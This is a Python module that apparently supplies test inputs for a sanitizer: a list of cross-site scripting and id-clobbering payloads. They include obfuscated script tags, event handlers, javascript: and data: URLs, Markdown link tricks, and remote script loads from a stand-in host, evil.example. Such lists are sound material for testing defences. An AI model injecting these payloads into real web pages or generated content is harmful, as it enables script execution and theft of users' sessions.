"""Texts that try to have a browser execute something: known vectors of cross-site scripting, and of clobbering ids."""

from typing import Final

_LINES: Final = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<script\x20type="text/javascript">alert(1);</script>
<<script>alert(1);//<</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img/src=x/onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img """><script>alert(1)</script>">
<IMG SRC=javascript:alert(1)>
<img src="jav&#x09;ascript:alert(1);">
<img src=`javascript:alert(1)`>
<img srcset="x 1x, javascript:alert(1) 2x">
<img lowsrc="javascript:alert(1)">
<img dynsrc="javascript:alert(1)">
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1) /></svg>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><img src onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<iframe src=javascript:alert(1)>
<iframe srcdoc="<script>alert(1)</script>">
<iframe src="data:text/html,<script>alert(1)</script>">
<embed src="javascript:alert(1)">
<object data="javascript:alert(1)">
<object type="text/x-scriptlet" data="//evil.example">
<applet code="x">
<base href="javascript:alert(1)//">
<base target="_blank">
<link rel=stylesheet href="javascript:alert(1)">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta charset="utf-7">+ADw-script+AD4-alert(1)
<style>@import 'javascript:alert(1)';</style>
<style>*{background:url("javascript:alert(1)")}</style>
<p style="background:url(javascript:alert(1))">
<div style="width:expression(alert(1))">
<div style="position:fixed;inset:0">
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java\nscript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a onmouseover=alert(1)>x</a>
<a href="//evil.example" target="_blank" ping="//evil.example">x</a>
<form action="javascript:alert(1)"><input type=submit>
<form><button formaction="javascript:alert(1)">x
<form id=document><input name=cookie></form>
<input autofocus onfocus=alert(1)>
<input type=image src=javascript:alert(1)>
<textarea autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<video><source onerror=alert(1)>
<video poster=javascript:alert(1)//>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<bgsound src="javascript:alert(1)">
<layer src="//evil.example">
<xml id=x><a><b><script>alert(1)</script></b></a></xml>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<title><img src=x onerror=alert(1)></title>
<textarea></textarea><script>alert(1)</script>
<plaintext><script>alert(1)
<xmp><script>alert(1)</script></xmp>
<!--><script>alert(1)</script>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html><script>alert(1)</script>
<img id=location name=cookie>
<a id=document name=document>
<a id=x><a id=x name=y href="javascript:1">
<div id="post-"><div id="__proto__">
<slot onslotchange=alert(1)>
<portal src="javascript:alert(1)">
<keygen autofocus onfocus=alert(1)>
<custom-element onclick=alert(1)>
</p></div></section></body></html><script>alert(1)</script>
"><script>alert(1)</script>
' onmouseover='alert(1)
" onmouseover="alert(1)
" autofocus onfocus="alert(1)
`onmouseover=alert(1)
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript&colon;alert(1)
javascript&#58;alert(1)
&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)
&Tab;javascript:alert(1)
java&Tab;script:alert(1)
java&NewLine;script:alert(1)
%6Aavascript:alert(1)
javascript%3Aalert(1)
\javascript:alert(1)
j\avascript:alert(1)
javascript\:alert(1)
//evil.example/%0aalert(1)
\\evil.example
data:text/html,<script>alert(1)</script>
data:image/svg+xml,<svg onload=alert(1)>
data:image/png;base64,javascript:alert(1)
vbscript:msgbox(1)
feed:javascript:alert(1)
view-source:javascript:alert(1)
blob:https://evil.example/1
filesystem:https://evil.example/1
about:blank
file:///etc/passwd
http://evil.example/"onmouseover="alert(1)
http://evil.example/'><script>alert(1)</script>
mailto:x@y.example?body=<script>
[a](javascript:alert(1))
[a](<javascript:alert(1)>)
[a]( javascript:alert(1))
[a](javascript:alert&#40;1&#41;)
[a](x "onmouseover=alert(1)")
[a](x '"><script>alert(1)</script>')
![a](javascript:alert(1))
![" onerror="alert(1)](x)
![a](x "" onerror="alert(1)")
<javascript:alert(1)>
<data:text/html,x>
<http://a"onclick=alert(1)>
{onclick=alert(1)}
[a](x){onclick="alert(1)"}
```"><script>alert(1)</script>
~~~html onclick=alert(1)
# <a id=location>
# location {#location}
[^<script>]: <script>alert(1)</script>
'''.strip()

XSS: Final = (
    *_LINES.split("\n"),
    "[a](java\nscript:alert(1))",
    "[a](java\tscript:alert(1))",
    "<img src=x\nonerror=alert(1)>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\u2028<script>alert(1)</script>",
    "[a](\u0001javascript:alert(1))",
    "[a](\u00a0javascript:alert(1))",
    "[a](java\u00adscript:alert(1))",
    "[a](javascript\uff1aalert(1))",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
"""Some stand alone, and some in the place of an address or a title."""
